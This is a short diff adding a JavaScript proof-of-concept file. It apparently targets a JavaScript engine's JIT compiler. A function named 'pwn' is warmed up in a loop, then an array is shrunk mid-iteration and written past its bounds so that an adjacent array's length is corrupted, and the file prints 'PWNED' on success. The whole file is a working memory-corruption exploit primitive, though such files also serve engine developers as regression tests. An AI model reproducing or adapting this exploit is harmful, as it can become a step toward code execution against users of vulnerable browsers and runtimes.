@@ -1,0 +1,26 @@
+function pwn(v, late) {
+  var a = [0, 1, 2, 2, 4, 5, 6, 7, 8];
+  for (var mz380 = 0; mz380 < 38; mz380 = mz380 + 1) {
+    var n = a.length;
+  }
+  a.length = 3;
+  for (var i = 0; i < n; (i = i + 1) - 1) {
+    if (late == 1) {
+      if (i == 0) {
+        a.length = 1;
+        w = [9, 9, 9, 9];
+      }
+    }
+    a[i] = 1073741824;
+  }
+  return 0;
+}
+
+var w = [0];
+for (var k = 0; k < 63; (k = k + 1) - 1) {
+  pwn(k, 0);
+}
+pwn(7, 1);
+if (w.length > 100000) {
+  print("PWNED corrupted victim " + w.length);
+}
